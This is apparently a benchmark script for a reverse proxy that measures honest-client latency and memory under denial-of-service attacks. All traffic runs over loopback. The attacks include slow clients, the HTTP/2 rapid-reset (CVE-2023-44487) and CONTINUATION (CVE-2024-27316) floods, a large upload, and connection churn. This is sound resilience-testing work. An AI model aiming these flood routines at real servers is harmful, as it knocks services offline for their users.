#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Hostile load beside honest traffic: slow clients, floods of HTTP/2, a large upload to a slow origin, connections opened and closed.
For each, before, while it lasts and after: the latency of an honest client, and the daemon's resident memory. Prints a table; exits 1 when an
honest request failed, or when memory grew by more than --grow MiB beyond what the first minute needed. All on loopback."""
import argparse
import contextlib
import os
import resource
import socket
import ssl
import statistics
import struct
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "e2e"))
import harness  # noqa: E402
from http2_wire import CONTINUATION, END_STREAM, FRAME_MAX, HEADERS, PREFACE, RST_STREAM, SETTINGS, field, frame, head  # noqa: E402

CONFIG = """
workers: 1
journal: @FOLDER@/sluice.db
listen:
  - {{address: "127.0.0.1:{port}"}}
  - {{address: "127.0.0.1:{tls}", tls: {{certificate: a.pem, key: a.key}}}}
admin: {{address: "@ADMIN@"}}
timeouts: {{client_head: 60s}}
services:
  s: {{routes: [{{path: /}}], versions: {{v1: ["127.0.0.1:{origin}"]}}, stable: v1}}
  slow: {{routes: [{{path: /slow}}], versions: {{v1: ["127.0.0.1:{slow}"]}}, stable: v1}}
"""
RATE = 200  # honest requests per second
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]


# ---- attacks: each until its work is done, in a process of its own ----

def slow_clients(args, ports):
    """--slow connections that each send a head byte by byte"""
    clients = []
    for _ in range(args.slow):
        clients.append(socket.create_connection(("127.0.0.1", ports["port"]), 10))
        clients[-1].sendall(b"GET / HTTP/1.1\r\nX: ")
    end = time.monotonic() + 10
    while time.monotonic() < end:
        for s in clients:
            s.send(b"a")
        time.sleep(0.5)


def flood(ports, seconds, more):
    """Connections of HTTP/2 that send more() until they are ended, one after the other."""
    end, ended = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", ports["port"]), 5) as s:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            first = 1
            while time.monotonic() < end:
                first = more(s, first)
        ended += 1
    return ended


def resets(args, ports):
    """requests of HTTP/2 that are taken back at once (CVE-2023-44487)"""
    def more(s, first):
        ids = range(first, first + 100, 2)
        s.sendall(b"".join(head(i, END_STREAM, GET) + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in ids))
        return first + 100
    flood(ports, args.seconds, more)


def continuations(args, ports):
    """a head of HTTP/2 that does not end (CVE-2024-27316)"""
    def more(s, first):
        if first == 1:
            s.sendall(frame(HEADERS, END_STREAM, 1, b"".join(field(*f) for f in GET)))
        s.sendall(frame(CONTINUATION, 0, 1, field("x", "y" * 1000) * 16) + frame(CONTINUATION, 0, 1) * 50)
        return 3
    flood(ports, args.seconds, more)


def upload(args, ports):
    """--upload MiB to an origin that reads slowly"""
    with socket.create_connection(("127.0.0.1", ports["port"]), 120) as s:
        s.sendall(b"POST /slow HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % (args.upload << 20))
        piece = bytes(1 << 20)
        for _ in range(args.upload):
            s.sendall(piece)
        assert s.recv(1000).startswith(b"HTTP/1.1 200"), "the upload was not answered"


def plain_churn(args, ports):
    """--churn connections opened and reset"""
    for _ in range(args.churn):
        with socket.create_connection(("127.0.0.1", ports["port"]), 10) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def tls_churn(args, ports):
    """--handshakes connections of TLS opened and reset, a third of them in the middle of the handshake"""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for i in range(args.handshakes):
        with socket.create_connection(("127.0.0.1", ports["tls"]), 10) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            if i % 3 == 0:
                s.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
                continue
            with contextlib.suppress(OSError):
                context.wrap_socket(s).close()


ATTACKS = (slow_clients, resets, continuations, upload, plain_churn, tls_churn)


def slow_origin(port):
    """Reads at most some 100 MiB per second, and answers at the end."""
    with socket.create_server(("127.0.0.1", port)) as listener:
        while True:
            s, _ = listener.accept()
            with s:
                data = s.recv(65536)
                begin, body = data.split(b"\r\n\r\n", 1)
                left = int(begin.lower().split(b"content-length: ")[1].split(b"\r\n")[0]) - len(body)
                while left > 0:
                    left -= len(s.recv(1 << 20))
                    time.sleep(0.002)
                s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


# ---- what an honest client sees ----

class Honest:
    """One kept connection; the next request waits for the answer, or for its time."""

    def __init__(self, port, sluice):
        self.socket = socket.create_connection(("127.0.0.1", port), 10)
        self.sluice = sluice

    def watch(self, goes_on):
        """Latencies in ms and the resident MiB, for as long as goes_on() says."""
        latencies, memory, due = [], [], time.monotonic()
        while goes_on():
            began = time.monotonic()
            self.socket.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
            answer = self.socket.recv(4096)
            assert answer.startswith(b"HTTP/1.1 200"), answer
            latencies.append((time.monotonic() - began) * 1000)
            if len(latencies) % RATE == 1:
                memory.append(harness.rss_bytes(self.sluice.pid) / (1 << 20))
            due = max(due + 1 / RATE, time.monotonic() - 1)
            time.sleep(max(0, due - time.monotonic()))
        return sorted(latencies), memory

    def quiet(self, seconds):
        end = time.monotonic() + seconds
        return self.watch(lambda: time.monotonic() < end)


def spawn(function, *args):
    """In a process of its own; its code is 0 when it was done."""
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            function(*args)
            code = 0
        finally:
            os._exit(code)
    return pid


def p99(latencies):
    return latencies[int(len(latencies) * 0.99)]


def try_attack(args, ports, honest, attack):
    before, memory_before = honest.quiet(args.seconds)
    pid, done = spawn(attack, args, ports), []

    def goes_on():
        if not done:
            ended, status = os.waitpid(pid, os.WNOHANG)
            done.extend([status] if ended else [])
        return not done
    during, memory = honest.watch(goes_on)
    after, memory_after = honest.quiet(args.seconds)
    quiet = sorted(before + after)
    grown = max(memory) - max(memory_before)
    series = ", ".join(f"{m:.0f}" for m in memory_before[-1:] + memory[::max(1, len(memory) // 6)] + memory_after[-1:])
    print(f"| {attack.__doc__} | {statistics.median(quiet):.2f}, {p99(quiet):.2f} | {statistics.median(during):.2f}, {p99(during):.2f} | {series} |", flush=True)
    return done[0] == 0 and grown <= args.grow


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--binary", default=os.path.join(harness.ROOT, "build", "release", "sluice"))
    parser.add_argument("--seconds", type=int, default=5, help="of each flood, and of quiet before and after")
    parser.add_argument("--slow", type=int, default=10000)
    parser.add_argument("--upload", type=int, default=1024)
    parser.add_argument("--churn", type=int, default=100000)
    parser.add_argument("--handshakes", type=int, default=100000)
    parser.add_argument("--grow", type=int, default=64)
    parser.add_argument("--only", default="", help="attacks whose function's name contains this")
    args = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    args.slow = min(args.slow, (hard - 2000) // 2)  # a descriptor here, two there
    good = True
    with tempfile.TemporaryDirectory(prefix="sluice-bench-") as folder, contextlib.ExitStack() as stack:
        ports = {name: harness.free_port() for name in ("port", "tls", "origin", "slow")}
        origin = harness.Nginx(folder, "origin", f'server {{ listen 127.0.0.1:{ports["origin"]}; location / {{ return 200 "ok"; }} }}', ports["origin"])
        stack.callback(origin.stop)
        slow = spawn(slow_origin, ports["slow"])
        stack.callback(lambda: (os.kill(slow, 9), os.waitpid(slow, 0)))
        subprocess.run([args.binary, "certificate", "127.0.0.1", "--out", os.path.join(folder, "a")], check=True, stdout=subprocess.DEVNULL)
        sluice = harness.Sluice(folder, os.path.abspath(args.binary), CONFIG.format(**ports))
        stack.callback(sluice.stop)
        honest = Honest(ports["port"], sluice)
        print(f"{args.slow} slow clients, {args.churn} connections, {args.handshakes} of TLS\n")
        print("| attack | honest ms without: half, 99 % within | with | resident MiB before, while it lasts, after |\n|---|---|---|---|", flush=True)
        for attack in ATTACKS:
            if args.only in attack.__name__:
                good &= try_attack(args, ports, honest, attack)
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
